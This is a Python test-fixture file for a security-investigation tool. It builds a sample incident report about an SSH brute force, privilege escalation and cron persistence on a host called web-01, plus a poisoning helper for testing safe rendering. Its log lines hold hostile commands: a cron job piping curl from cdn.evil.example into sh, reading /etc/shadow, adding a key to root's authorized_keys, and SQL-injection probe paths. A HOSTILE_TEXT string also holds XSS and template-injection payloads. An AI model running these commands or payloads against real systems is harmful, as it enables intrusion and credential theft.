"""A rich sample report, and the same report with every free text replaced by something hostile."""

import copy
import random
from collections.abc import Callable
from typing import Any

import pytest

from moewarden.graphs.schema import (
    Asked,
    Chart,
    EpisodeSummary,
    Evidence,
    ExpertUse,
    Finding,
    Indicator,
    LogFile,
    Report,
    TimelineEntry,
    ToolCall,
)

SSH = "Nov 20 {time} web-01 sshd[2291]: {text}"
HOSTILE_TEXT = (
    '<script>alert(1)</script><img src=x onerror="alert(1)">"\'`|</pre></svg></title><!-- '
    "]]> {{ 7*7 }} [click](http://evil.example/x) ![i](https://evil.example/i.png) www.evil.example "
    "\u202egpj.exe\u202c \u200b\x1b[31mred\x1b[0m\x00\x07\x9b2J \ud800 ```` ~~~~ [bold red]markup[/] @admin $x$ "
)
LABELS_OF_THE_CONTRACT = {
    *("id", "verdict", "severity", "specialist", "decision", "status", "kind", "evidence", "findings", "memories"),
    *("episode", "finding", "time", "start", "end", "created", "first", "last"),
}
"""Keys whose values our own code makes: ids, times and closed vocabularies."""


@pytest.fixture
def report() -> Report:
    return make_report()


@pytest.fixture
def empty_report() -> Report:
    return make_empty_report()


@pytest.fixture
def poison() -> Callable[..., Report]:
    return poisoned


@pytest.fixture
def hostile_report() -> Report:
    return poisoned(make_report(), HOSTILE_TEXT)


def make_report() -> Report:
    """A password guessed over SSH, a stolen sudo, a web probe; four specialists, three rounds, 25 evidence lines."""
    return {
        "id": "inv-2026-11-20-7f3a",
        "created": "2026-11-20T12:04:09Z",
        "title": "Brute force on web-01 followed by a login",
        "question": "Who got into web-01, and how far did they get?",
        "answer": (
            "203.0.113.77 guessed the password of deploy on web-01 at 10:21:44, became root with sudo two minutes "
            "later and left a cron job that fetches http://cdn.evil.example/u.sh every five minutes. "
            "No event shows a second host being reached."
        ),
        "answered": True,
        "verdict": "malicious",
        "severity": "high",
        "confidence": 0.91,
        "summary": (
            "312 failed logins from one public address against 14 accounts, then one success with the same client. "
            "Two ordinary activities in the same hour were examined and set aside: the nightly backup and an "
            "administrator's package update."
        ),
        "techniques": [
            technique("T1053.003", "Cron", "persistence", "E18", "E19"),
            technique("T1110.001", "Password Guessing", "credential-access", "E1", "E2", "E3", "E12"),
            technique("T1078.003", "Local Accounts", "Initial Access", "E12", "E13"),
            technique("T1548.003", "Sudo and Sudo Caching", "privilege-escalation", "E14", "E15"),
            technique("T1105", "Ingress Tool Transfer", "command-and-control", "E18"),
            technique("T1595.002", "Vulnerability Scanning", "reconnaissance", "E20", "E21"),
        ],
        "iocs": [
            indicator("ip", "203.0.113.77", "source of 312 failed logins and of the one that worked", "E1", "E12"),
            indicator("ip", "2001:db8:7::bad:1", "asked for paths that only a prober asks for", "E20"),
            indicator("domain", "cdn.evil.example", "host of the fetched script", "E18"),
            indicator("url", "http://cdn.evil.example/u.sh", "fetched by the new cron job", "E18", "E19"),
            indicator("user", "deploy", "account whose password was guessed", "E12"),
            indicator("mail", "ops@evil.example", "address in the new authorized key", "E16"),
            indicator("file", "/etc/cron.d/.cache-sync", "the new cron job", "E18"),
            indicator(
                "hash",
                "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                "the script as it was saved",
                "E19",
            ),
        ],
        "evidence": evidence_lines(),
        "timeline": timeline(),
        "findings": findings(),
        "episodes": episodes(),
        "charts": charts(),
        "actions": [
            {
                "text": "Block 203.0.113.77 at the perimeter",
                "because": "It guessed a password and holds a session.",
                "evidence": ["E1", "E12"],
                "needs_approval": True,
            },
            {
                "text": "Disable deploy on web-01 and remove /etc/cron.d/.cache-sync",
                "because": "The job fetches a script as root every five minutes.",
                "evidence": ["E18", "E19"],
                "needs_approval": True,
            },
            {
                "text": "Ask the owner of deploy whether the login at 10:21 was theirs",
                "because": "No known-good fact covers this address.",
                "evidence": ["E12"],
                "needs_approval": False,
            },
        ],
        "not_checked": [
            "Whether the script was run: no process events of web-01 are in the logs.",
            "Hosts other than web-01 and db-01: no logs of them were given.",
        ],
        "asked": asked(),
        "hypotheses": [
            {
                "id": "h1",
                "text": "Somebody guessed the password of root from 203.0.113.45.",
                "status": "supported",
                "for": ["E1", "E2"],
                "against": [],
                "questions": ["What did 203.0.113.45 do?"],
            },
        ],
        "way": {"name": "investigate", "because": "The model passed 20 of 24 tasks.", "passed": 20, "tasks": 24},
        "experts": experts(),
        "dropped": [
            {
                "specialist": "intelligence",
                "claim": "198.51.100.4 is a known scanner",
                "reason": "cites event 881, which does not contain 198.51.100.4",
            },
            {
                "specialist": "triage",
                "claim": "the key of root was replaced",
                "reason": "cites event 99231, which does not exist",
            },
        ],
        "memories": [
            {
                "id": "M1",
                "kind": "known_good",
                "text": "backup-01 reads all buckets and /var/lib nightly between 10:00 and 11:00",
                "origin": "memory add, by k.ito",
                "time": "2026-09-02T08:11:00Z",
                "used": True,
            },
            {
                "id": "M2",
                "kind": "incident",
                "text": "Brute force on web-02 from 203.0.113.0/24, blocked, no login",
                "origin": "inv-2026-08-14-11c2",
                "time": "2026-08-14T21:40:00Z",
                "used": False,
            },
        ],
        "logs": [
            log_file("web-01/auth.log", "syslog", 4812, 3, "two lines cut off, one not UTF-8"),
            log_file("web-01/access.log", "web access", 21904, 0, ""),
            log_file("db-01/auth.log.1.gz", "syslog", 388, 0, ""),
            log_file("notes.bin", "none", 0, 1, "binary; skipped"),
        ],
        "gaps": [
            {
                "file": "db-01/auth.log.2.gz",
                "kind": "ends early",
                "reason": "the gzip data are cut off",
                "matters": True,
            },
            {"file": "photo.png", "kind": "skipped", "reason": "image", "matters": False},
        ],
        "alert": {
            "rule": "ssh_bruteforce",
            "host.name": "web-01",
            "source.ip": "203.0.113.77",
            "@timestamp": "2026-11-20T10:22:00Z",
            "message": "312 authentication failures in 600 s",
        },
        "model": "moewarden-tiny",
        "usage": {
            "seconds": 38.4,
            "model_seconds": 21.7,
            "model_calls": 64,
            "input_tokens": 18240,
            "output_tokens": 71,
            "tokens_per_second": 842.0,
            "abstained": 2,
            "repaired": 0,
            "calls_by_kind": {"episode": 9, "technique": 22, "relevant": 18, "next": 6, "call": 8, "question": 1},
            "tool_calls": 17,
            "rounds": 3,
            "kernel": "cpu",
            "experts_mode": "packed NF4",
            "limits_met": ["seconds: 38 of 38 used before round 4"],
        },
    }


def make_empty_report() -> Report:
    """Nothing found, nothing read: every list empty."""
    report = make_report()
    for key, value in report.items():
        if isinstance(value, list):
            report[key] = []  # type: ignore[literal-required]
    report.update(
        verdict="insufficient_evidence",
        severity="informational",
        confidence=0.0,
        answered=False,
        alert={},
        question="",
        title="",
        answer="The question was not answered: no event was read.",
        summary="",
    )
    report["usage"].update(
        seconds=0.0, model_seconds=0.0, model_calls=0, input_tokens=0, output_tokens=0, tokens_per_second=0.0
    )
    report["usage"].update(calls_by_kind={}, tool_calls=0, rounds=0, limits_met=[], kernel="", experts_mode="")
    return report


def poisoned(report: Report, payload: str) -> Report:
    """The same report with `payload` in every text that logs, tickets, tools or models can influence."""
    return walk(copy.deepcopy(report), "", payload)


def walk(value: Any, key: str, payload: str) -> Any:
    if isinstance(value, dict):
        poisoned_keys = key in ("facts", "alert", "arguments", "calls_by_kind")
        return {(payload + name if poisoned_keys else name): walk(item, name, payload) for name, item in value.items()}
    if isinstance(value, list):
        return [walk(item, key, payload) for item in value]
    if isinstance(value, str) and key not in LABELS_OF_THE_CONTRACT:
        return payload + value
    return value


def technique(id: str, name: str, tactic: str, *evidence: str) -> Any:
    return {"id": id, "name": name, "tactic": tactic, "evidence": list(evidence)}


def indicator(type: str, value: str, why: str, *evidence: str) -> Indicator:
    return {"type": type, "value": value, "why": why, "evidence": list(evidence)}


def log_file(file: str, format: str, events: int, broken: int, note: str) -> LogFile:
    first, last = ("2026-11-20T09:30:02Z", "2026-11-20T11:29:58Z") if events else ("", "")
    return {
        "file": file,
        "format": format,
        "events": events,
        "broken": broken,
        "first": first,
        "last": last,
        "note": note,
    }


def evidence_lines() -> list[Evidence]:
    lines: list[tuple[str, int, str, str, str]] = []
    users = ("root", "admin", "oracle", "test", "ubuntu", "git", "postgres", "jenkins", "deploy", "deploy", "deploy")
    for index, user in enumerate(users):
        time = f"10:{11 + index:02d}:{7 * index % 60:02d}"
        text = f"Failed password for {user} from 203.0.113.77 port {40122 + 31 * index} ssh2"
        lines.append(("web-01/auth.log", 1180 + 29 * index, time, SSH.format(time=time, text=text), "failed login"))
    accepted = "Accepted password for deploy from 203.0.113.77 port 41877 ssh2"
    sudo = "web-01 sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/"
    more = [
        ("web-01/auth.log", 1502, "10:21:44", SSH.format(time="10:21:44", text=accepted), "the login that worked"),
        (
            "web-01/auth.log",
            1503,
            "10:21:44",
            "Nov 20 10:21:44 web-01 systemd-logind[711]: New session 88 of user deploy.",
            "its session",
        ),
        ("web-01/auth.log", 1511, "10:23:02", f"Nov 20 10:23:02 {sudo}bash", "became root"),
        ("web-01/auth.log", 1512, "10:23:02", f"Nov 20 10:23:02 {sudo}cat /etc/shadow", "read the password hashes"),
        (
            "web-01/auth.log",
            1519,
            "10:24:10",
            f"Nov 20 10:24:10 {sudo}tee -a /root/.ssh/authorized_keys ssh-ed25519 {'AAAAC3Nz' * 12} ops@evil.example",
            "key added",
        ),
        ("web-01/auth.log", 1520, "10:24:31", f"Nov 20 10:24:31 {sudo}crontab -l", "looked at the cron table"),
        (
            "web-01/auth.log",
            1533,
            "10:26:00",
            "Nov 20 10:26:00 web-01 CRON[2410]: (root) CMD (curl -s http://cdn.evil.example/u.sh | sh)",
            "the new job's first run",
        ),
        (
            "web-01/auth.log",
            1561,
            "10:31:00",
            "Nov 20 10:31:00 web-01 CRON[2466]: (root) CMD (curl -s http://cdn.evil.example/u.sh | sh)",
            "and its second",
        ),
    ]
    probe = (
        '2001:db8:7::bad:1 - - [20/Nov/2026:{time} +0000] "GET {path} HTTP/1.1" 404 153 "-" "<script>alert(1)</script>"'
    )
    for index, path in enumerate(("/.env", "/wp-login.php?x=%27%20OR%201=1--", "/actuator/env", "/.git/config")):
        time = f"10:05:{10 + 9 * index}"
        lines.append(("web-01/access.log", 7701 + index, time, probe.format(time=time, path=path), "probe"))
    lines[0:0], more = lines[:0], more
    lines += more
    backup = "Nov 20 10:30:00 web-01 sshd[2451]: Accepted publickey for backup from 10.0.0.9 port 50022 ssh2"
    update = "Nov 20 10:40:12 web-01 sudo: k.ito : TTY=pts/0 ; USER=root ; COMMAND=/usr/bin/apt-get upgrade"
    lines.append(("web-01/auth.log", 1560, "10:30:00", backup, "the nightly backup"))
    lines.append(("web-01/auth.log", 1610, "10:40:12", update, "an administrator's update"))
    # As in a real report: the web probes carry the ids after the sequence that the claims cite.
    order = [*range(11), *range(15, 23), *range(11, 15), 23, 24]
    chosen = [lines[index] for index in order]
    return [
        {"id": f"E{n}", "file": file, "line": line, "time": f"2026-11-20T{time}Z", "quote": quote, "why": why}
        for n, (file, line, time, quote, why) in enumerate(chosen, start=1)
    ]


def timeline() -> list[TimelineEntry]:
    rows = [
        ("10:05:10", "2001:db8:7::bad:1 asks for four paths that only a prober asks for", ["E20", "E21"], True),
        ("10:11:00", "203.0.113.77 starts guessing passwords", ["E1", "E2"], True),
        ("10:19:56", "The guesses concentrate on deploy", ["E9", "E10", "E11"], True),
        ("10:21:44", "The password of deploy is accepted", ["E12", "E13"], True),
        ("10:23:02", "deploy becomes root with sudo and reads /etc/shadow", ["E14", "E15"], True),
        ("10:24:10", "A key is added for root", ["E16"], True),
        ("10:26:00", "A cron job fetches http://cdn.evil.example/u.sh", ["E18"], True),
        ("10:30:00", "backup logs in from 10.0.0.9, as every day", ["E24"], False),
        ("10:31:00", "The cron job runs again", ["E19"], True),
        ("10:40:12", "k.ito updates packages", ["E25"], False),
    ]
    return [
        {"time": f"2026-11-20T{time}Z", "text": text, "evidence": cited, "hostile": hostile}
        for time, text, cited, hostile in rows
    ]


def findings() -> list[Finding]:
    rows = [
        (
            "triage",
            "Which logins failed and then worked?",
            "312 failed logins from 203.0.113.77 for 14 accounts, then one success as deploy",
            "P1",
            ["E1", "E2", "E3", "E12"],
        ),
        (
            "analysis",
            "Is the number of failures unusual?",
            "Failures per five minutes rose from 0.4 to 156, 61 deviations above the rest",
            "P1",
            ["E3", "E9"],
        ),
        (
            "triage",
            "What did deploy do after the login?",
            "deploy ran bash, cat and tee as root within 90 seconds",
            "P2",
            ["E14", "E15", "E16"],
        ),
        (
            "data",
            "Which jobs did root run that it never ran before?",
            "A job that fetches http://cdn.evil.example/u.sh first ran at 10:26:00",
            "P3",
            ["E18", "E19"],
        ),
        (
            "intelligence",
            "What is 2001:db8:7::bad:1 known for?",
            "2001:db8:7::bad:1 asked for four paths on the user's list of probes",
            "P4",
            ["E20", "E21", "E22", "E23"],
        ),
    ]
    return [
        {
            "id": f"F{number}",
            "specialist": specialist,  # type: ignore[typeddict-item]
            "question": question,
            "claim": claim,
            "episode": episode,
            "evidence": cited,
        }
        for number, (specialist, question, claim, episode, cited) in enumerate(rows, start=1)
    ]


def episode(id: str, title: str, decision: Any, start: str, end: str, **rest: Any) -> EpisodeSummary:
    return {
        "id": id,
        "title": title,
        "start": f"2026-11-20T{start}Z",
        "end": f"2026-11-20T{end}Z",
        "facts": rest["facts"],
        "decision": decision,
        "rule_score": rest["rule"],
        "model_score": rest["model"],
        "score": rest["score"],
        "memories": rest.get("memories", []),
        "evidence": rest["evidence"],
    }


def episodes() -> list[EpisodeSummary]:
    return [
        episode(
            "P1",
            "203.0.113.77 against accounts on web-01",
            "hostile",
            "10:11:00",
            "10:21:44",
            rule=3.0,
            model=2.8,
            score=1.9,
            facts={
                "actions": "login",
                "outcome": "mostly failure, then success",
                "failure ratio": "0.997",
                "targets": "14 accounts on 1 host",
                "actor": "public address, first seen",
                "regularity": "bursts",
                "followed by": "privilege use",
            },
            evidence=[f"E{n}" for n in range(1, 13)],
        ),
        episode(
            "P2",
            "deploy on web-01, as root",
            "hostile",
            "10:21:44",
            "10:24:31",
            rule=2.0,
            model=3.4,
            score=1.7,
            facts={"actions": "privilege use, credential create", "actor": "user, habitual", "hour": "usual"},
            evidence=["E13", "E14", "E15", "E16", "E17"],
        ),
        episode(
            "P3",
            "root's new cron job on web-01",
            "hostile",
            "10:26:00",
            "10:31:00",
            rule=2.0,
            model=1.9,
            score=1.35,
            facts={"actions": "task schedule, network connect", "first seen": "yes", "regularity": "every 300 s"},
            evidence=["E18", "E19"],
        ),
        episode(
            "P4",
            "2001:db8:7::bad:1 against the web server on web-01",
            "unclear",
            "10:05:10",
            "10:05:37",
            rule=1.0,
            model=0.2,
            score=0.55,
            facts={"actions": "web request", "outcome": "failure", "paths": "only a prober asks for them"},
            evidence=["E20", "E21", "E22", "E23"],
        ),
        episode(
            "P5",
            "backup from backup-01",
            "ordinary",
            "10:30:00",
            "10:30:00",
            rule=0.0,
            model=-3.1,
            score=-0.9,
            facts={"actions": "login", "outcome": "success", "known good": "reads all buckets nightly (M1)"},
            memories=["M1"],
            evidence=["E24"],
        ),
        episode(
            "P6",
            "k.ito's package update",
            "ordinary",
            "10:40:12",
            "10:40:12",
            rule=0.0,
            model=-2.2,
            score=-0.6,
            facts={"actions": "privilege use", "actor": "user, habitual"},
            evidence=["E25"],
        ),
    ]


def charts() -> list[Chart]:
    counts = [1, 0, 0, 2, 0, 1, 0, 0, 1, 64, 156, 92, 0, 0, 1, 0, 0, 0, 2, 0, 0, 1, 0, 0]
    buckets = [f"2026-11-20T{9 + (30 + 5 * n) // 60:02d}:{(30 + 5 * n) % 60:02d}:00Z" for n in range(len(counts))]
    users = {"deploy": 188, "root": 41, "admin": 30, "oracle": 14, "test": 12, "ubuntu": 9, "git": 8, "postgres": 6}
    return [
        {
            "title": "Failed logins on web-01",
            "unit": "events per 5 minutes",
            "labels": buckets,
            "values": [float(count) for count in counts],
            "highlighted": [9, 10, 11],
            "finding": "F2",
        },
        {
            "title": "Failed logins by account",
            "unit": "events",
            "labels": list(users),
            "values": [float(count) for count in users.values()],
            "highlighted": [0],
            "finding": "F1",
        },
    ]


def call(tool: str, result: str, status: Any = "ok", **arguments: str) -> ToolCall:
    return {"tool": tool, "arguments": arguments, "result": result, "status": status, "seconds": 0.021}


def asked() -> list[Asked]:
    return [
        {
            "round": 1,
            "specialist": "triage",
            "question": "Which logins failed and then worked?",
            "because": "the alert",
            "calls": [
                call("list_signals", "4 signals, highest level high"),
                call("search_events", "312 events", action="login", outcome="failure", actor="203.0.113.77"),
                call("search_events", "1 event", action="login", outcome="success", actor="203.0.113.77"),
            ],
            "findings": ["F1"],
            "status": "answered",
        },
        {
            "round": 1,
            "specialist": "analysis",
            "question": "Is the number of failures unusual?",
            "because": "signal success_after_failures",
            "calls": [call("count_over_time", "24 buckets of 5 min, peak 156", action="login", outcome="failure")],
            "findings": ["F2"],
            "status": "answered",
        },
        {
            "round": 1,
            "specialist": "intelligence",
            "question": "What is 203.0.113.77 known for?",
            "because": "the alert",
            "calls": [
                call("look_up", "on none of 2 lists", value="203.0.113.77"),
                call("look_up", "refused: the same call was made before", "refused", value="203.0.113.77"),
            ],
            "findings": [],
            "status": "nothing found",
        },
        {
            "round": 2,
            "specialist": "triage",
            "question": "What did deploy do after the login?",
            "because": "F1",
            "calls": [call("timeline_of", "9 events", entity="deploy"), call("event", "one event", id="1512")],
            "findings": ["F3"],
            "status": "answered",
        },
        {
            "round": 2,
            "specialist": "data",
            "question": "Which jobs did root run that it never ran before?",
            "because": "F1",
            "calls": [
                call("schema", "2 tables"),
                call("query", "failed: no such column cmd", "failed", sql="SELECT cmd FROM events WHERE user = 'root'"),
                call("query", "2 rows", sql="SELECT fields->>'command', count(*) FROM events GROUP BY 1"),
            ],
            "findings": ["F4"],
            "status": "answered",
        },
        {
            "round": 3,
            "specialist": "intelligence",
            "question": "What is 2001:db8:7::bad:1 known for?",
            "because": "F3",
            "calls": [call("look_up", "on the list probes.csv", value="2001:db8:7::bad:1")],
            "findings": ["F5"],
            "status": "answered",
        },
        {
            "round": 3,
            "specialist": "analysis",
            "question": "Does db-01 show the same failures?",
            "because": "F4",
            "calls": [],
            "findings": [],
            "status": "budget",
        },
    ]


def experts(layers: int = 4, count: int = 32, top_k: int = 4) -> list[ExpertUse]:
    """A router with favourites, other ones for each asker."""
    uses: list[ExpertUse] = []
    for asker, tokens in (("planner", 2110), ("triage", 6930), ("analysis", 1820), ("intelligence", 1404)):
        chance = random.Random(asker)
        rows = []
        for _ in range(layers):
            weights = [chance.paretovariate(1.3) for _ in range(count)]
            total = sum(weights)
            rows.append([int(tokens * top_k * weight / total) for weight in weights])
        uses.append({"asker": asker, "tokens": tokens, "top_k": top_k, "layers": rows})
    return uses
